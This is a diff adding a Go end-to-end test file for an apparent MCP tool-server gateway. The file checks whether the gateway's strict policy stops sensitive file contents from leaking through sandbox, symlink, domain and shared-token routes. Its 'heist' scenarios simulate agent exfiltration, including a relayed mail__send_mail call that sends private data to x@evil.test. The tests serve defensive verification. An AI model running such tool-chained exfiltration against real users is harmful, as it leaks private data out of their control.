@@ -1,0 +1,177 @@
+package e2e
+
+import (
+	"fmt"
+	"net/http"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+)
+
+// confined are servers of which the owner says no more than that one tool reads. What they are told, the stranger gets:
+// by a way out that each of them has, or because another server has one that reads what it writes.
+var confined = []struct {
+	name, more string   // of the declaration
+	other      string   // the declaration of a server that never has to run: it could
+	args       []string // further ones
+}{
+	{name: "box", other: leadsOut + "sandbox { read_only = [%[1]s] }"},
+	{name: "above", other: leadsOut + "sandbox { read_only = [%[2]s] }"},
+	{name: "link", other: leadsOut + "sandbox { read_only = [%[3]s] }"},
+	{name: "chain", other: leadsOut + "sandbox { read_only = [%[4]s] }"},
+	{name: "account", more: accountToken, other: leadsOut + accountToken},
+	{name: "bucket", more: `allowed_domains = ["s3.amazonaws.com"]`},
+	{name: "network", more: leadsOut},
+	{name: "asks", more: `client_capabilities = ["sampling"]`},
+	{name: "poster", more: named + "tool \"comment\" {\n  effect = \"reversible\"\n}"},
+	{name: "claims", more: named, args: []string{"-reads"}},
+	{name: safeServer, args: []string{"-reads"}},
+}
+
+const (
+	leadsOut     = "allowed_domains = [\"203.0.113.0/24\"]\n"
+	named        = "allowed_domains = [\"api.example.com\"]\n"
+	accountToken = "auth = { TOKEN = \"$SHARED_ACCOUNT\" }\n"
+
+	safeServer = "safe" // which nobody but its readers gets anything from
+	relay      = "chain-relay"
+)
+
+// hinted are those of confined whose tools read by their own word alone, which a person has accepted.
+var hinted = []string{"claims", safeServer}
+
+// declareConfined declares them, and returns the names of those that run.
+func (s *stage) declareConfined() (names []string) {
+	s.apart = map[string]string{}
+	s.env = append(s.env, "SHARED_ACCOUNT=of-both")
+	for _, c := range confined {
+		above := directory(s.t, "")
+		dir, link, end := filepath.Join(above, "notes"), filepath.Join(above, "link"), directory(s.t, "")
+		check(s.t, os.Mkdir(dir, 0o777))
+		check(s.t, os.Symlink(dir, link))
+		for _, d := range []string{dir, end} {
+			check(s.t, os.Chmod(d, 0o777))
+		}
+		log := filepath.Join(dir, "received")
+		more := c.more
+		if len(c.args) == 0 {
+			more += "\ntool \"search\" {\n  semantics = \"read\"\n}"
+		}
+		s.write(c.name+".hcl", declare(program(s.t, "tracker"),
+			append([]string{"-text", log, "-scheme", c.name, "-received", log}, c.args...), fmt.Sprintf(`
+pins  = "trust-first"
+label = "public"
+sandbox { writable = [%s] }
+trust {
+  public_source = false
+  secret_data   = false
+}
+%s`, quote(dir), more)))
+		never := declare(program(s.t, "echo"), nil, "autostart = false\n")
+		if c.other != "" {
+			s.write(c.name+"-out.hcl", never+strings.NewReplacer(
+				"%[1]s", quote(dir), "%[2]s", quote(above), "%[3]s", quote(link), "%[4]s", quote(end),
+			).Replace(c.other))
+		}
+		if c.name == "chain" {
+			s.write(relay+".hcl", never+fmt.Sprintf("sandbox { writable = [%s, %s] }\n", quote(dir), quote(end)))
+		}
+		if c.name != safeServer {
+			s.apart[c.name] = log
+		}
+		names = append(names, c.name)
+	}
+	return names
+}
+
+// acceptHints has a person accept what servers claim of their tools.
+func (s *stage) acceptHints() {
+	s.t.Helper()
+	for _, name := range hinted {
+		if out, errs, code := s.command("pins", "accept", name, "--yes"); code != 0 {
+			s.t.Fatalf("accepting the tools of %s: %s%s", name, out, errs)
+		}
+	}
+}
+
+// unconfined are the heists by way of them.
+func unconfined() (all []heist) {
+	for _, c := range confined {
+		tool, argument := "search", "query"
+		if c.name == "poster" {
+			tool, argument = "comment", "body"
+		}
+		if c.name == safeServer {
+			continue
+		}
+		all = append(all, heist{name: "confined, " + c.name, leave: func(_ *stage, a *agent, data string) {
+			a.call(c.name+"__"+tool, map[string]any{argument: data})
+		}})
+	}
+	return append(all, heist{name: "confined, by another client", leave: func(s *stage, a *agent, data string) {
+		a.call(safeServer+"__search", map[string]any{"query": data})
+		b := s.agent(a.modern)
+		b.call(safeServer+"__read_issue", nil)
+		if strings.Contains(b.said(), data) {
+			b.call("mail__send_mail", map[string]any{"to": "x@evil.test", "body": data})
+		}
+	}})
+}
+
+// TestConfined: strict lets sensitive data go to a server that reaches nothing, as long as no other is declared that
+// reaches something and reads what the server writes. The record says why.
+func TestConfined(t *testing.T) {
+	t.Parallel()
+	s := &stage{private: directory(t, ""), profile: "strict", http: http.DefaultClient, patience: soon}
+	dir := filepath.Join(directory(t, ""), "notes")
+	check(t, os.Mkdir(dir, 0o777))
+	check(t, os.Chmod(dir, 0o777))
+	check(t, os.WriteFile(filepath.Join(s.private, "note.txt"), []byte("a private note"), 0o644))
+	s.pfar = prepare(t, map[string]string{
+		"notes.hcl": declare("node", []string{npm(t, "@modelcontextprotocol/server-filesystem/dist/index.js"), s.private}, fmt.Sprintf(`
+label = "sensitive"
+sandbox { read_only = [%s] }
+trust {
+  public_source    = true
+  public_sink      = false
+  dangerous_writes = false
+}
+tool "read_text_file" { semantics = "read" }`, quote(s.private))),
+		"box.hcl": declare(program(t, "tracker"), []string{"-received", filepath.Join(dir, "received")}, fmt.Sprintf(`
+label = "internal"
+sandbox { writable = [%s] }
+trust { public_source = false }
+tool "search" { semantics = "read" }`, quote(dir))),
+	})
+	s.declareClients()
+	s.up()
+	s.awaitRunning("notes", "box")
+	a := s.agent(false)
+	a.call("notes__read_text_file", map[string]any{"path": filepath.Join(s.private, "note.txt")})
+	search := func() string { return a.call("box__search", map[string]any{"query": "a private note"}) }
+	if got := search(); !strings.Contains(got, "\"done\"") {
+		t.Fatalf("it reaches nothing, and is not called: %.500s", got)
+	}
+	if out, _, _ := s.command("audit", "--json"); !strings.Contains(out, "sandbox: reaches nothing") {
+		t.Errorf("the record does not say why it was called: %.2000s", out)
+	}
+	a.patience = 2 * time.Second
+	for _, other := range []struct {
+		text  string
+		calls bool
+	}{
+		{leadsOut + fmt.Sprintf("sandbox { read_only = [%s] }", quote(filepath.Dir(dir))), false},
+		{leadsOut, true},
+		{fmt.Sprintf("sandbox { read_only = [%s] }", quote(dir)), true},
+		{leadsOut + fmt.Sprintf("sandbox { read_only = [%s] }", quote(dir)), false},
+	} {
+		s.write("other.hcl", declare(program(t, "echo"), nil, "autostart = false\n"+other.text))
+		for began := time.Now(); strings.Contains(search(), "\"done\"") != other.calls; {
+			if time.Since(began) > soon {
+				t.Fatalf("beside %s its calls pass: %t", other.text, !other.calls)
+			}
+		}
+	}
+}
